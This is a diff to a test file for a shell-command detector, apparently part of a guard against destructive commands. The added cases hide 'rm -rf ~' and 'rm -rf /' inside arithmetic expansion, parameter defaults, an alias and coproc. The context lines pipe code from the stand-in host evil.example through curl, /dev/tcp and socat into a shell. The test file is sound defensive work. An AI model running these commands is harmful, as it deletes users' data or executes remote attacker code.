@@ -67,6 +67,11 @@ describe('destructive-shell detector', () => {
     ["watch -n 1 'rm -rf ~'", 'recursive-delete'],
     ["trap 'rm -rf ~' EXIT", 'recursive-delete'],
     ['for f in $(rm -rf ~); do :; done', 'recursive-delete'],
+    ['echo $(( $(rm -rf ~) + 1 ))', 'recursive-delete'],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: ${x:-…} is shell text here
+    ['echo ${x:-$(rm -rf ~)}', 'recursive-delete'],
+    ["alias ll='rm -rf ~'; ll", 'recursive-delete'],
+    ['coproc rm -rf /', 'recursive-delete'],
     ['curl -s https://x.example/i.sh | source /dev/stdin', 'remote-code'],
     ['cat </dev/tcp/evil.example/80 | sh', 'remote-code'],
     ['socat TCP:evil.example:80 - | sh', 'remote-code'],
